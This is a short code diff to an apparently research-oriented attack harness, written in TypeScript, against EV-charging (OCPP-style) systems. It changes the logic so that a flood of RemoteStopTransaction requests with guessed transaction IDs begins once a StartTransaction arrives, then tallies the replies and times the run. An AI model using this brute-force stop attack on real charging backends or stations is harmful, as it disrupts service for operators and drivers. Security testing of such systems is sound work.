@@ -111,18 +111,24 @@ const ATTACKS = {
       const payload = { transactionId };
       socket.send(JSON.stringify([2, `g${sent++}`, "RemoteStopTransaction", payload]));
     };
-    const begun = performance.now();
+    let begun = 0;
     await new Promise<void>((resolve, reject) => {
       socket.on("close", () => reject(new Error("the backend was thrown out")));
       socket.on("message", (data) => {
         const [type, messageId, result] = JSON.parse(String(data));
-        if (type === 2) return socket.send(JSON.stringify([3, messageId, reply(result)]));
+        if (type === 2) {
+          socket.send(JSON.stringify([3, messageId, reply(result)]));
+          // From now on it has an id of its own for the transaction, which is guessed as well.
+          if (result !== "StartTransaction" || begun > 0) return;
+          begun = performance.now();
+          while (sent < Math.min(WINDOW, count)) next();
+          return;
+        }
         const word = type === 3 ? String(result.status) : String(result);
         answers[word] = (answers[word] ?? 0) + 1;
         if (++answered === count) resolve();
         else if (sent < count) next();
       });
-      while (sent < Math.min(WINDOW, count)) next();
     });
     socket.terminate();
     return { answers, tookMs: performance.now() - begun };
